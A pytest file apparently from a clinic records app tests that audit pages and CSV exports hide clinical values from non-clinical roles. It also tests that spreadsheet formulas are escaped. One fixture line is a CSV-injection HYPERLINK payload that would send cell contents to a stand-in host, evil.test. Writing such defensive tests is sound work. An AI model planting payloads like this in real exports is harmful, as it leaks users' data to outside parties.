"""Clinic admins and auditors see who changed which field, never a clinical value;
clinicians still read the values; every CSV cell a spreadsheet would run is escaped."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from typing import cast

import pytest
from django.http import HttpResponseBase, StreamingHttpResponse
from django.test import Client
from django.urls import reverse

from mesodesk.audit.models import AuditEvent
from mesodesk.audit.redaction import HIDDEN, event_view
from mesodesk.core.testing import Personas, adult_patient_data, logged_in_client
from mesodesk.patients.services import condition_record, patient_create, patient_update
from mesodesk.patients.services import intake as intake_services
from mesodesk.patients.tests.intake_helpers import form_post

pytestmark = pytest.mark.django_db

SECRETS = ("Keloid after 2019 peel", "73.4", "Very private concern")


def _clinical_history(personas: Personas) -> None:
    patient = patient_create(
        actor=personas.practitioner,
        data=adult_patient_data(weight_kg="73.4", concerns="Very private concern"),
    )
    condition_record(
        actor=personas.practitioner,
        patient_id=patient.pk,
        data={"code": "urticaria", "note": "Keloid after 2019 peel"},
    )
    patient_update(actor=personas.front_desk, patient_id=patient.pk, data={"phone": "0999 111 222"})


def _csv(response: HttpResponseBase) -> list[list[str]]:
    streamed = cast(StreamingHttpResponse, response).streaming_content
    text = b"".join(cast(Iterable[bytes], streamed)).decode()
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("role", ["clinic_admin", "auditor"])
def test_the_audit_page_and_csv_carry_no_clinical_value_for_a_non_clinical_role(
    personas: Personas, role: str
) -> None:
    _clinical_history(personas)
    client = logged_in_client(getattr(personas, role))

    page = client.get(reverse("audit:list"))
    rows = _csv(client.get(reverse("audit:export")))

    body = page.content.decode()
    exported = "\n".join(",".join(r) for r in rows)
    for secret in SECRETS:
        assert secret not in body
        assert secret not in exported
    # They still see which fields changed, and the non-clinical values.
    for field in ("weight_kg", "concerns", "note"):
        assert field in body
    assert "clinical value hidden" in body
    assert "0999 111 222" in body
    assert "0999 111 222" in exported
    assert HIDDEN in exported


def test_a_clinical_reader_of_the_same_events_sees_the_values(personas: Personas) -> None:
    _clinical_history(personas)
    event = AuditEvent.objects.filter(object_type="patients.Condition").get()

    shown = event_view(event, clinical=True)
    hidden = event_view(event, clinical=False)

    assert shown.changes["note"] == [None, "Keloid after 2019 peel"]
    assert hidden.changes["note"] == HIDDEN
    assert ("note", None, None, False) in hidden.change_rows


def test_a_formula_in_a_user_agent_from_an_intake_link_is_escaped_in_the_csv(
    personas: Personas,
) -> None:
    patient = patient_create(actor=personas.front_desk, data=adult_patient_data())
    issued = intake_services.intake_link_create(actor=personas.front_desk, patient_id=patient.pk)
    formula = '=HYPERLINK("http://evil.test/?leak="&A1,"Click")'
    browser = Client(HTTP_USER_AGENT=formula)
    path = issued.url.removeprefix("http://127.0.0.1:8000")
    assert browser.post(path, form_post()).status_code == 200

    rows = _csv(logged_in_client(personas.auditor).get(reverse("audit:export")))

    agents = [row[rows[0].index("user_agent")] for row in rows[1:]]
    assert "'" + formula in agents
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
